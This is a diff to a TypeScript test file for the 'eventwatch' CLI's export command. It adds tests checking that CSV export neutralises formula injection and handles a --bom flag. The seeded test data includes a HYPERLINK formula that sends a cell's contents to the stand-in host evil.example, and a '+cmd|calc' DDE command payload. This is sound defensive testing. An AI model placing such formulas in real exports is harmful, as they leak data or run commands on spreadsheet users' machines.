@@ -241,19 +241,22 @@ describe('export queries', () => {
 // ---------------------------------------------------------------------------------------------
 // As child processes
 
-function run(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
+function run(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string; bytes: Buffer }> {
   const env: NodeJS.ProcessEnv = { ...process.env, HOME: home, XDG_DATA_HOME: join(home, 'data'), XDG_CONFIG_HOME: join(home, 'config') }
   delete env.NODE_OPTIONS // vitest's own loader hooks are not the CLI's business
   delete env.EVENTWATCH_DB
   delete env.EVENTWATCH_CLIENT_SECRET
   const child = spawn(process.execPath, [BIN, ...args], { cwd: ROOT, env, stdio: ['ignore', 'pipe', 'pipe'] })
-  let stdout = ''
+  const out: Buffer[] = []
   let stderr = ''
-  child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d))
+  child.stdout.on('data', (d: Buffer) => out.push(d))
   child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d))
   return new Promise((resolvePromise, reject) => {
     child.on('error', reject)
-    child.on('close', (code) => resolvePromise({ code, stdout, stderr }))
+    child.on('close', (code) => {
+      const bytes = Buffer.concat(out)
+      resolvePromise({ code, stdout: bytes.toString('utf8'), stderr, bytes })
+    })
   })
 }
 
@@ -422,6 +425,58 @@ describe('eventwatch export snapshots', () => {
     const { code, stderr } = await run(['export', 'snapshots', '--db', dbFile])
     expect(code).not.toBe(0)
     expect(stderr).toContain('--session')
+  })
+})
+
+describe('eventwatch export of hostile text (CSV injection)', () => {
+  const HOSTILE = 'sess-hostile'
+  const EVENT_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Q4 All-Hands")'
+  let file: string
+
+  beforeAll(() => {
+    file = join(home, 'hostile.db')
+    const db = openDatabase(file)
+    try {
+      upsertConnection(db, connection('conn-a', 'Tenant A'), T)
+      storeSessionList(db, 'conn-a', [session(HOSTILE, { eventName: EVENT_NAME, contentId: '+cmd|calc' })], T)
+      const viewers = [{ viewerId: 'v-1', os: '@SUM(1)', app: '-2+3', deviceType: '\tdesktop', rebufferingEvents: 0, networkConnections: [{ publicIp: '=1+1', siteCode: 7 }] }]
+      storeViewerList(db, 'conn-a', HOSTILE, viewers.map((v) => ViewerSchema.parse(v)), T, 1)
+    } finally {
+      db.close()
+    }
+  })
+
+  it('writes formula-looking text with a leading quote in CSV, and as received in JSON', async () => {
+    const sessions = await run(['export', 'sessions', '--db', file, '--format', 'csv'])
+    expect(sessions.code).toBe(0)
+    const row = csvObjects(sessions.stdout).find((r) => r.eventSessionId === HOSTILE)!
+    expect(row.eventName).toBe(`'${EVENT_NAME}`)
+    expect(row.contentId).toBe("'+cmd|calc")
+    expect(row.viewersCount).toBe('3')
+
+    const viewers = await run(['export', 'viewers', '--session', HOSTILE, '--db', file, '--format', 'csv'])
+    expect(viewers.code).toBe(0)
+    const [viewer] = csvObjects(viewers.stdout)
+    expect(viewer).toMatchObject({ os: "'@SUM(1)", app: "'-2+3", deviceType: "'\tdesktop", 'networkConnections.0.publicIp': "'=1+1" })
+    expect(viewer!['networkConnections.0.siteCode']).toBe('7')
+    // No cell of the file starts a formula, quoted or not.
+    for (const cells of parseCsv(viewers.stdout)) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+
+    const json = await run(['export', 'viewers', '--session', HOSTILE, '--db', file])
+    expect((JSON.parse(json.stdout) as Record<string, unknown>[])[0]!.os).toBe('@SUM(1)')
+  })
+
+  it('--bom starts the CSV with EF BB BF; without it the file starts with the header', async () => {
+    const withBom = await run(['export', 'viewers', '--session', HOSTILE, '--db', file, '--format', 'csv', '--bom'])
+    expect(withBom.code).toBe(0)
+    expect([...withBom.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+    const without = await run(['export', 'viewers', '--session', HOSTILE, '--db', file, '--format', 'csv'])
+    expect(withBom.bytes.subarray(3).equals(without.bytes)).toBe(true)
+    expect(without.stdout.startsWith('viewerId,')).toBe(true)
+  })
+
+  it('--bom with JSON is refused in one line: JSON never starts with a byte-order mark', async () => {
+    expectOneLineFailure(await run(['export', 'sessions', '--db', file, '--bom']), /--bom applies to CSV only/)
   })
 })
 
